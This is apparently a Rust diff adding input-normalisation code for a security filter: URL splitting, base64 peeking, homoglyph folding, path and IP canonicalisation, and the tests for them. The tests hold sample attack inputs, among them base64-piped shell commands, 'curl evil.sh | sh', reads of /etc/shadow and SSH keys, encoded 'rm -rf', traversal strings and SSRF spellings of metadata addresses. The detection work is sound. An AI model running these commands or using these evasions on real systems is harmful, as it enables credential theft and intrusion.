+fn split_url(scheme: &str, authority: &str, tail: &str) -> UrlParts {
+    let (userinfo, host_port) = match authority.rfind('@') {
+        Some(at) => (Some(authority[..at].to_string()), &authority[at + 1..]),
+        None => (None, authority),
+    };
+    let (host, port_text) = if host_port.starts_with('[') {
+        match host_port.find(']') {
+            Some(close) => (
+                &host_port[..=close],
+                host_port[close + 1..].strip_prefix(':'),
+            ),
+            None => (host_port, None),
+        }
+    } else {
+        match host_port.split_once(':') {
+            Some((host, port)) => (host, Some(port)),
+            None => (host_port, None),
+        }
+    };
+    // Prose and shell quoting leave punctuation stuck to the end of a host.
+    let host = host.trim_end_matches(['\'', '(', ')', ',', ';', '!', '*', '\\']);
+    let port = port_text.and_then(|p| {
+        let digits = p.bytes().take_while(u8::is_ascii_digit).count();
+        p[..digits].parse().ok()
+    });
+    let path_and_query = &tail[..tail.find('#').unwrap_or(tail.len())];
+    UrlParts {
+        scheme: scheme.to_string(),
+        userinfo,
+        host: host.to_string(),
+        port,
+        path_and_query: path_and_query.to_string(),
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Base64
+
+const LENIENT_DECODE: GeneralPurposeConfig = GeneralPurposeConfig::new()
+    .with_decode_padding_mode(DecodePaddingMode::Indifferent)
+    .with_decode_allow_trailing_bits(true);
+static STANDARD_LENIENT: GeneralPurpose = GeneralPurpose::new(&alphabet::STANDARD, LENIENT_DECODE);
+static URL_SAFE_LENIENT: GeneralPurpose = GeneralPurpose::new(&alphabet::URL_SAFE, LENIENT_DECODE);
+
+/// Decode base64-looking tokens that turn out to be text.
+///
+/// Tokens are maximal runs of the base64 and base64url alphabets, optionally
+/// ending in `=` padding (`key=dGV4dA==` yields `dGV4dA==`). A token is a
+/// candidate when it is at least `min_base64_len` long, uses one alphabet, and
+/// has a length base64 can have. At most `max_base64_tokens` candidates are
+/// decoded, each to at most `max_base64_decoded` bytes (a longer token is decoded
+/// on its prefix). The text is kept when it is valid UTF-8 and at least 90%
+/// printable or whitespace.
+///
+/// # Warning
+/// The bound is a budget an attacker can spend: base64-looking decoys placed
+/// before a payload use up the candidates. Treat a string with many candidates
+/// as suspicious in itself rather than as cleared.
+pub fn base64_peek(s: &str, limits: &Limits) -> Vec<String> {
+    let mut found: Vec<String> = Vec::new();
+    let mut candidates = 0;
+    for token in base64_tokens(s.as_bytes()) {
+        if candidates >= limits.max_base64_tokens {
+            break;
+        }
+        let Some(engine) = candidate_engine(token, limits.min_base64_len) else {
+            continue;
+        };
+        candidates += 1;
+        if let Some(text) = decode_text(engine, token, limits.max_base64_decoded) {
+            if !found.contains(&text) {
+                found.push(text);
+            }
+        }
+    }
+    found
+}
+
+fn is_base64_byte(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_')
+}
+
+/// Runs of alphabet bytes, each with its trailing `=` padding.
+fn base64_tokens(bytes: &[u8]) -> impl Iterator<Item = &[u8]> + '_ {
+    let mut pos = 0;
+    std::iter::from_fn(move || {
+        while pos < bytes.len() && !is_base64_byte(bytes[pos]) {
+            pos += 1;
+        }
+        if pos == bytes.len() {
+            return None;
+        }
+        let start = pos;
+        while pos < bytes.len() && is_base64_byte(bytes[pos]) {
+            pos += 1;
+        }
+        while pos < bytes.len() && bytes[pos] == b'=' {
+            pos += 1;
+        }
+        Some(&bytes[start..pos])
+    })
+}
+
+/// The engine to decode `token` with, or `None` when it is not a candidate.
+fn candidate_engine(token: &[u8], min_len: usize) -> Option<&'static GeneralPurpose> {
+    let body_len = token.iter().rposition(|b| *b != b'=').map_or(0, |i| i + 1);
+    let padding = token.len() - body_len;
+    if body_len < min_len.max(1) || body_len % 4 == 1 || padding > 2 {
+        return None;
+    }
+    if padding > 0 && token.len() % 4 != 0 {
+        return None;
+    }
+    let body = &token[..body_len];
+    let standard = body.iter().any(|b| matches!(b, b'+' | b'/'));
+    let url_safe = body.iter().any(|b| matches!(b, b'-' | b'_'));
+    match (standard, url_safe) {
+        (true, true) => None,
+        (false, true) => Some(&URL_SAFE_LENIENT),
+        _ => Some(&STANDARD_LENIENT),
+    }
+}
+
+fn decode_text(engine: &GeneralPurpose, token: &[u8], max_decoded: usize) -> Option<String> {
+    let max_chars = max_decoded / 3 * 4;
+    let truncated = token.len() > max_chars;
+    let input = if truncated {
+        &token[..max_chars]
+    } else {
+        token
+    };
+    if input.is_empty() {
+        return None;
+    }
+    let bytes = engine.decode(input).ok()?;
+    let text = match std::str::from_utf8(&bytes) {
+        Ok(text) => text,
+        // A cut token may end inside a multi-byte character.
+        Err(err) if truncated && err.error_len().is_none() => {
+            std::str::from_utf8(&bytes[..err.valid_up_to()]).ok()?
+        }
+        Err(_) => return None,
+    };
+    let (mut total, mut printable) = (0usize, 0usize);
+    for c in text.chars() {
+        total += 1;
+        if !c.is_control() || matches!(c, '\t' | '\n' | '\r') {
+            printable += 1;
+        }
+    }
+    (total > 0 && printable * 10 >= total * 9).then(|| text.to_string())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use proptest::prelude::*;
+
+    fn v4(a: u8, b: u8, c: u8, d: u8) -> HostView {
+        HostView::Ip(IpAddr::V4(Ipv4Addr::new(a, b, c, d)))
+    }
+
+    fn has_view(s: &str, wanted: &str) -> bool {
+        text_views(s, &Limits::default())
+            .iter()
+            .any(|v| v == wanted)
+    }
+
+    fn lex(raw: &str) -> Option<PathBuf> {
+        lexical_path(raw, Path::new("/w"), Path::new("/root"))
+    }
+
+    // --- text_views -------------------------------------------------------
+
+    #[test]
+    fn plain_ascii_is_a_single_borrowed_view() {
+        let views = text_views("read the file notes.txt please", &Limits::default());
+        assert_eq!(views.len(), 1);
+        assert!(matches!(views[0], Cow::Borrowed(_)));
+    }
+
+    #[test]
+    fn double_encoded_traversal_is_decoded() {
+        let s = "%252e%252e%252fetc%252fpasswd";
+        let views = text_views(s, &Limits::default());
+        assert_eq!(views[0], s);
+        assert!(views.iter().any(|v| v == "../etc/passwd"), "{views:?}");
+    }
+
+    #[test]
+    fn views_combine_percent_and_unicode() {
+        // Percent-encoded zero-width space inside a path.
+        assert!(has_view("/etc/pa%E2%80%8Bsswd", "/etc/passwd"));
+    }
+
+    #[test]
+    fn views_include_decoded_base64() {
+        let payload = base64::engine::general_purpose::STANDARD.encode("cat /etc/shadow");
+        let s = format!("run this: echo {payload} | base64 -d | sh");
+        assert!(has_view(&s, "cat /etc/shadow"));
+    }
+
+    #[test]
+    fn views_are_distinct_and_bounded() {
+        // Each payload has a Cyrillic `а`, so it adds a decoded and a cleaned
+        // view: 1 + 2 * 8 candidates would exceed the cap.
+        let mut s = String::new();
+        for i in 0..40 {
+            let text = format!("commаnd number {i:02} here");
+            s.push_str(&base64::engine::general_purpose::STANDARD.encode(text));
+            s.push(' ');
+        }
+        let views = text_views(&s, &Limits::default());
+        assert_eq!(views.len(), MAX_VIEWS);
+        assert!(views.iter().any(|v| v == "command number 00 here"));
+        for (i, a) in views.iter().enumerate() {
+            assert!(views[i + 1..].iter().all(|b| a != b), "duplicate {a}");
+        }
+    }
+
+    #[test]
+    fn huge_input_is_viewed_on_a_bounded_prefix() {
+        let s = "%41".repeat(350_000); // ~1 MiB
+        let limits = Limits::default();
+        let views = text_views(&s, &limits);
+        assert_eq!(views[0].len(), s.len());
+        assert!(views.len() <= MAX_VIEWS);
+        assert!(views.len() > 1, "the prefix is still decoded");
+        assert!(views[1..].iter().all(|v| v.len() <= limits.max_input));
+    }
+
+    #[test]
+    fn every_function_is_bounded_on_hostile_megabyte_inputs() {
+        let limits = Limits::default();
+        let inputs = [
+            "a://x#".repeat(180_000),
+            "a://a://".repeat(130_000),
+            "%25".repeat(350_000),
+            "\u{0301}".repeat(500_000),
+            "pа".repeat(350_000),
+            "QUFB".repeat(260_000),
+            "../".repeat(350_000),
+            "1.".repeat(500_000),
+        ];
+        for s in &inputs {
+            let views = text_views(s, &limits);
+            assert!(views.len() <= MAX_VIEWS);
+            assert!(views[1..].iter().all(|v| v.len() <= limits.max_input));
+            assert!(extract_urls(s).len() <= MAX_URLS);
+            assert!(base64_peek(s, &limits).len() <= limits.max_base64_tokens);
+            let _ = (clean_unicode(s), is_mixed_script(s), has_invisible(s));
+            let _ = (canonical_host(s), parse_ipv4_loose(s));
+            if let Some(p) = lex(s) {
+                assert!(p.is_absolute());
+            }
+        }
+    }
+
+    #[test]
+    fn prefix_cut_respects_char_boundaries() {
+        let s = "é".repeat(10);
+        assert_eq!(prefix_at_char_boundary(&s, 5), "éé");
+        assert_eq!(prefix_at_char_boundary(&s, 100), s);
+    }
+
+    // --- percent_decode_repeated ------------------------------------------
+
+    #[test]
+    fn percent_decoding_repeats_until_stable() {
+        assert_eq!(
+            percent_decode_repeated("%252e%252e%252f", 4).as_deref(),
+            Some("../")
+        );
+        assert_eq!(percent_decode_repeated("%252e", 1).as_deref(), Some("%2e"));
+        assert_eq!(percent_decode_repeated("%25252e", 4).as_deref(), Some("."));
+    }
+
+    #[test]
+    fn percent_decoding_ignores_invalid_and_plus() {
+        assert_eq!(percent_decode_repeated("100% sure", 4), None);
+        assert_eq!(percent_decode_repeated("a+b%zz%4", 4), None);
+        assert_eq!(
+            percent_decode_repeated("a+b%20c", 4).as_deref(),
+            Some("a+b c")
+        );
+        assert_eq!(percent_decode_repeated("%41", 0), None);
+    }
+
+    #[test]
+    fn percent_decoding_joins_bytes_across_rounds_and_is_lossy() {
+        assert_eq!(
+            percent_decode_repeated("%25C3%25A9", 4).as_deref(),
+            Some("é")
+        );
+        assert_eq!(
+            percent_decode_repeated("a%FFb", 4).as_deref(),
+            Some("a\u{FFFD}b")
+        );
+    }
+
+    // --- clean_unicode / has_invisible / is_mixed_script -------------------
+
+    #[test]
+    fn zero_width_characters_are_removed() {
+        let s = "/etc/pa\u{200b}sswd";
+        assert!(has_invisible(s));
+        assert_eq!(clean_unicode(s), "/etc/passwd");
+        assert_eq!(
+            clean_unicode("r\u{00AD}m\u{2060} -\u{FEFF}rf\u{E0041}"),
+            "rm -rf"
+        );
+    }
+
+    #[test]
+    fn fullwidth_is_folded_by_nfkc() {
+        assert_eq!(clean_unicode("ｒｍ －ｒｆ"), "rm -rf");
+    }
+
+    #[test]
+    fn homoglyphs_are_folded() {
+        assert_eq!(clean_unicode("раураl.com"), "paypal.com");
+        assert_eq!(clean_unicode("ΑΡΙ κey"), "API key");
+        assert_eq!(clean_unicode("ѕudo ɡit"), "sudo git");
+    }
+
+    #[test]
+    fn unchanged_text_is_borrowed() {
+        assert!(matches!(clean_unicode("plain ascii"), Cow::Borrowed(_)));
+        assert!(matches!(clean_unicode("naïve café 東京"), Cow::Borrowed(_)));
+        assert!(!has_invisible("naïve café"));
+        assert!(!has_invisible("plain"));
+    }
+
+    #[test]
+    fn mixed_script_words_are_detected() {
+        assert!(is_mixed_script("рaypal")); // Cyrillic р
+        assert!(is_mixed_script("login at pаypal.com")); // Cyrillic а
+        assert!(is_mixed_script("p\u{200b}аypal")); // an invisible does not split the word
+        assert!(is_mixed_script("gοοgle")); // Greek ο
+    }
+
+    #[test]
+    fn single_script_text_is_not_mixed() {
+        assert!(!is_mixed_script("Привет мир"));
+        assert!(!is_mixed_script("Καλημέρα κόσμε"));
+        assert!(!is_mixed_script("hello мир, café"));
+        assert!(!is_mixed_script("Tokyo東京"));
+        assert!(!is_mixed_script("plain ascii"));
+    }
+
+    // --- lexical_path -------------------------------------------------------
+
+    #[test]
+    fn tilde_expands_to_home() {
+        assert_eq!(
+            lex("~/.ssh/id_rsa"),
+            Some(PathBuf::from("/root/.ssh/id_rsa"))
+        );
+        assert_eq!(lex("~"), Some(PathBuf::from("/root")));
+        assert_eq!(lex("~bob/.ssh"), None);
+    }
+
+    #[test]
+    fn dot_dot_is_resolved_and_clamped_at_root() {
+        assert_eq!(
+            lex("/workspace/../etc/passwd"),
+            Some(PathBuf::from("/etc/passwd"))
+        );
+        assert_eq!(lex("a/../../..//etc"), Some(PathBuf::from("/etc")));
+        assert_eq!(lex("/../../.."), Some(PathBuf::from("/")));
+        assert_eq!(lex("./x/./y//"), Some(PathBuf::from("/w/x/y")));
+    }
+
+    #[test]
+    fn file_urls_become_paths() {
+        assert_eq!(
+            lex("file:///etc/%70asswd"),
+            Some(PathBuf::from("/etc/passwd"))
+        );
+        assert_eq!(
+            lex("FILE://localhost/etc/passwd?x#y"),
+            Some(PathBuf::from("/etc/passwd"))
+        );
+        assert_eq!(
+            lex("file:/etc/../etc/shadow"),
+            Some(PathBuf::from("/etc/shadow"))
+        );
+        assert_eq!(lex("file:///etc/passwd%00.txt"), None);
+    }
+
+    #[test]
+    fn plain_paths_keep_percent_and_backslash() {
+        assert_eq!(lex("/tmp/%70"), Some(PathBuf::from("/tmp/%70")));
+        assert_eq!(lex("..\\..\\etc"), Some(PathBuf::from("/w/..\\..\\etc")));
+    }
+
+    #[test]
+    fn empty_and_nul_paths_are_rejected() {
+        assert_eq!(lex(""), None);
+        assert_eq!(lex("/etc/passwd\0"), None);
+    }
+
+    // --- resolve_existing ---------------------------------------------------
+
+    #[test]
+    fn symlink_pointing_outside_resolves_to_target() -> std::io::Result<()> {
+        let inside = tempfile::tempdir()?;
+        let outside = tempfile::tempdir()?;
+        std::fs::write(outside.path().join("secret"), b"x")?;
+        std::os::unix::fs::symlink(outside.path(), inside.path().join("link"))?;
+        let target = std::fs::canonicalize(outside.path())?;
+
+        let resolved = resolve_existing(&inside.path().join("link/secret"));
+        assert_eq!(resolved, target.join("secret"));
+
+        let resolved = resolve_existing(&inside.path().join("link/new/deeper/../file"));
+        assert_eq!(resolved, target.join("new/file"));
+        Ok(())
+    }
+
+    #[test]
+    fn dangling_symlink_is_followed() -> std::io::Result<()> {
+        let inside = tempfile::tempdir()?;
+        let outside = tempfile::tempdir()?;
+        let target = std::fs::canonicalize(outside.path())?.join("not-yet");
+        std::os::unix::fs::symlink(&target, inside.path().join("dangling"))?;
+
+        assert_eq!(resolve_existing(&inside.path().join("dangling")), target);
+        Ok(())
+    }
+
+    #[test]
+    fn symlink_loop_terminates() -> std::io::Result<()> {
+        let dir = tempfile::tempdir()?;
+        let base = std::fs::canonicalize(dir.path())?;
+        std::os::unix::fs::symlink(base.join("b"), base.join("a"))?;
+        std::os::unix::fs::symlink(base.join("a"), base.join("b"))?;
+
+        let resolved = resolve_existing(&base.join("a/x"));
+        assert!(resolved.starts_with(&base), "{resolved:?}");
+        Ok(())
+    }
+
+    #[test]
+    fn missing_path_is_kept_lexically() {
+        let resolved = resolve_existing(Path::new("/nonexistent-vanguard/a/./b/../c"));
+        assert_eq!(resolved, PathBuf::from("/nonexistent-vanguard/a/c"));
+        assert_eq!(resolve_existing(Path::new("/")), PathBuf::from("/"));
+    }
+
+    #[test]
+    fn too_many_components_skip_io() {
+        let long = "/a".repeat(MAX_PATH_COMPONENTS + 1);
+        let resolved = resolve_existing(Path::new(&long));
+        assert_eq!(resolved.components().count(), MAX_PATH_COMPONENTS + 2);
+    }
+
+    // --- canonical_host / parse_ipv4_loose ----------------------------------
+
+    #[test]
+    fn loopback_in_every_spelling() {
+        for host in [
+            "127.0.0.1",
+            "2130706433",
+            "0x7f000001",
+            "0177.0.0.1",
+            "127.1",
+            "127.0.1",
+            "0x7f.1",
+            "[::ffff:127.0.0.1]",
+            "::ffff:7f00:1",
+            "::127.0.0.1",
+            "127.0.0.1.",
+            "%31%32%37.0.0.1",
+            "127.1 trailing",
+        ] {
+            assert_eq!(canonical_host(host), v4(127, 0, 0, 1), "{host}");
+        }
+    }
+
+    #[test]
+    fn metadata_address_in_every_spelling() {
+        for host in [
+            "169.254.169.254",
+            "0xa9fea9fe",
+            "2852039166",
+            "0251.0376.0251.0376",
+            "169.254.43518",
+            "0xA9.0xFE.0xA9.0xFE",
+        ] {
+            assert_eq!(canonical_host(host), v4(169, 254, 169, 254), "{host}");
+        }
+    }
+
+    #[test]
+    fn non_addresses_are_names() {
+        assert_eq!(
+            canonical_host("256.1.1.1"),
+            HostView::Name("256.1.1.1".into())
+        );
+        assert_eq!(
+            canonical_host("example.com."),
+            HostView::Name("example.com".into())
+        );
+        assert_eq!(
+            canonical_host("Example.COM"),
+            HostView::Name("example.com".into())
+        );
+        assert_eq!(
+            canonical_host("08.1.1.1"),
+            HostView::Name("08.1.1.1".into())
+        );
+    }
+
+    #[test]
+    fn ipv6_stays_ipv6_unless_it_embeds_ipv4() {
+        let loopback = HostView::Ip(IpAddr::V6(Ipv6Addr::LOCALHOST));
+        assert_eq!(canonical_host("[::1]"), loopback);
+        assert_eq!(canonical_host("::1"), loopback);
+        let link_local: Ipv6Addr = "fe80::1".parse().unwrap();
+        assert_eq!(
+            canonical_host("[fe80::1%25eth0]"),
+            HostView::Ip(IpAddr::V6(link_local))
+        );
+        assert_eq!(
+            canonical_host("fe80::1%eth0"),
+            HostView::Ip(IpAddr::V6(link_local))
+        );
+    }
+
+    #[test]
+    fn inet_aton_forms() {
+        assert_eq!(parse_ipv4_loose("0"), Some(Ipv4Addr::new(0, 0, 0, 0)));
+        assert_eq!(parse_ipv4_loose("10.1"), Some(Ipv4Addr::new(10, 0, 0, 1)));
+        assert_eq!(
+            parse_ipv4_loose("1.2.65535"),
+            Some(Ipv4Addr::new(1, 2, 255, 255))
+        );
+        assert_eq!(parse_ipv4_loose("4294967295"), Some(Ipv4Addr::BROADCAST));
+    }
+
+    #[test]
+    fn inet_aton_rejections() {
+        for s in [
+            "",
+            "4294967296",
+            "1.2.65536",
+            "1.16777216",
+            "256.1.1.1",
+            "1.2.3.4.5",
+            "1..2",
+            "1.2.3.",
+            ".1.2.3",
+            "0x",
+            "0x1g",
+            "09",
+            "1.2.3.4x",
+            "-1",
+            "+1",
+            " 1",
+            "a.b.c.d",
+            "99999999999999999999999",
+        ] {
+            assert_eq!(parse_ipv4_loose(s), None, "{s:?}");
+        }
+    }
+
+    // --- extract_urls ---------------------------------------------------------
+
+    #[test]
+    fn userinfo_tricks_name_the_real_host() {
+        let urls =
+            extract_urls("see http://good.com@evil.com/x and https://a:b@good.com:8443@evil.org");
+        let hosts: Vec<&str> = urls.iter().map(|u| u.host.as_str()).collect();
+        assert_eq!(hosts, ["evil.com", "evil.org"]);
+        assert_eq!(urls[0].userinfo.as_deref(), Some("good.com"));
+        assert_eq!(urls[0].path_and_query, "/x");
+    }
+
+    #[test]
+    fn url_pieces_are_split() {
+        let urls = extract_urls("curl 'HTTP://user:pw@[::ffff:127.0.0.1]:8080/a?b=c#frag'");
+        assert_eq!(
+            urls,
+            [UrlParts {
+                scheme: "http".into(),
+                userinfo: Some("user:pw".into()),
+                host: "[::ffff:127.0.0.1]".into(),
+                port: Some(8080),
+                path_and_query: "/a?b=c".into(),
+            }]
+        );
+        assert_eq!(canonical_host(&urls[0].host), v4(127, 0, 0, 1));
+    }
+
+    #[test]
+    fn nested_and_unusual_schemes_are_found() {
+        let urls =
+            extract_urls("go to https://r.example/?next=gopher://10.0.0.1:70/_x, dict://h:11211/");
+        let found: Vec<(&str, &str)> = urls
+            .iter()
+            .map(|u| (u.scheme.as_str(), u.host.as_str()))
+            .collect();
+        assert_eq!(
+            found,
+            [
+                ("https", "r.example"),
+                ("gopher", "10.0.0.1"),
+                ("dict", "h")
+            ]
+        );
+        assert_eq!(urls[1].port, Some(70));
+    }
+
+    #[test]
+    fn parser_disagreements_yield_both_readings() {
+        let hosts = |s: &str| {
+            extract_urls(s)
+                .into_iter()
+                .map(|u| u.host)
+                .collect::<Vec<_>>()
+        };
+        assert_eq!(
+            hosts("http://good.com\\@evil.com/"),
+            ["evil.com", "good.com"]
+        );
+        assert_eq!(hosts("http:///evil.com/"), ["", "evil.com"]);
+    }
+
+    #[test]
+    fn text_without_scheme_has_no_urls() {
+        assert!(extract_urls("connect to evil.com:80 or //evil.com/x").is_empty());
+        assert!(extract_urls("://nothing 123://x").is_empty());
+    }
+
+    #[test]
+    fn url_count_is_bounded() {
+        let s = "http://a.example/ ".repeat(1000);
+        assert_eq!(extract_urls(&s).len(), 1);
+        let s: String = (0..100).map(|i| format!("http://h{i}.example/ ")).collect();
+        assert_eq!(extract_urls(&s).len(), MAX_URLS);
+    }
+
+    // --- base64_peek ----------------------------------------------------------
+
+    #[test]
+    fn base64_payloads_are_decoded() {
+        let limits = Limits::default();
+        let standard = base64::engine::general_purpose::STANDARD.encode("cat /etc/shadow");
+        assert_eq!(
+            base64_peek(&format!("x=\"{standard}\""), &limits),
+            ["cat /etc/shadow"]
+        );
+        let url_safe =
+            base64::engine::general_purpose::URL_SAFE_NO_PAD.encode("curl evil.sh?? | sh >>");
+        assert_eq!(base64_peek(&url_safe, &limits), ["curl evil.sh?? | sh >>"]);
+    }
+
+    #[test]
+    fn english_prose_has_no_base64() {
+        let s = "The internationalization committee reconsidered the authentication \
+                 requirements of responsibilities, characteristically and thoughtfully.";
+        assert!(base64_peek(s, &Limits::default()).is_empty());
+        assert_eq!(text_views(s, &Limits::default()).len(), 1);
+    }
+
+    #[test]
+    fn binary_base64_is_ignored() {
+        let blob = base64::engine::general_purpose::STANDARD
+            .encode([0u8, 1, 2, 3, 200, 201, 255, 7, 8, 9, 10, 11]);
+        assert!(base64_peek(&blob, &Limits::default()).is_empty());
+    }
+
+    #[test]
+    fn base64_limits_are_respected() {
+        let enc = |t: &str| base64::engine::general_purpose::STANDARD.encode(t);
+        let limits = Limits {
+            max_base64_tokens: 2,
+            max_base64_decoded: 12,
+            ..Limits::default()
+        };
+        let s = format!(
+            "{} {} {}",
+            enc("first payload!"),
+            enc("second payload"),
+            enc("third payload!")
+        );
+        let found = base64_peek(&s, &limits);
+        assert_eq!(found, ["first payloa", "second paylo"]);
+    }
+
+    proptest! {
+        #[test]
+        fn text_views_keep_the_original_first(s in any::<String>()) {
+            let views = text_views(&s, &Limits::default());
+            prop_assert_eq!(&views[0], &s);
+            prop_assert!(views.len() <= MAX_VIEWS);
+        }
+
+        #[test]
+        fn text_views_handle_encoded_noise(s in "[%0-9a-fA-F+/=\u{200b}аοｒ ]{0,200}") {
+            let views = text_views(&s, &Limits::default());
+            prop_assert_eq!(&views[0], &s);
+        }
+
+        #[test]
+        fn lexical_paths_are_absolute_and_clean(raw in any::<String>()) {
+            if let Some(p) = lex(&raw) {
+                prop_assert!(p.is_absolute());
+                prop_assert!(!p.as_os_str().as_bytes().windows(2).any(|w| w == b"//"));
+                prop_assert!(p.components().all(|c| matches!(
+                    c,
+                    std::path::Component::RootDir | std::path::Component::Normal(_)
+                )));
+            }
+        }
+
+        #[test]
+        fn lexical_paths_from_path_like_input(raw in "(file://)?(~/)?(\\.\\.?/|/|[a-z%]{1,3}/){0,12}") {
+            if let Some(p) = lex(&raw) {
+                prop_assert!(p.is_absolute());
+                prop_assert!(!p.as_os_str().as_bytes().windows(2).any(|w| w == b"//"));
+                prop_assert!(p.components().all(|c| matches!(
+                    c,
+                    std::path::Component::RootDir | std::path::Component::Normal(_)
+                )));
+            }
+        }
+
+        #[test]
+        fn host_and_url_parsing_never_panic(s in any::<String>()) {
+            let _ = canonical_host(&s);
+            let _ = parse_ipv4_loose(&s);
+            prop_assert!(extract_urls(&s).len() <= MAX_URLS);
+        }
+    }
+}
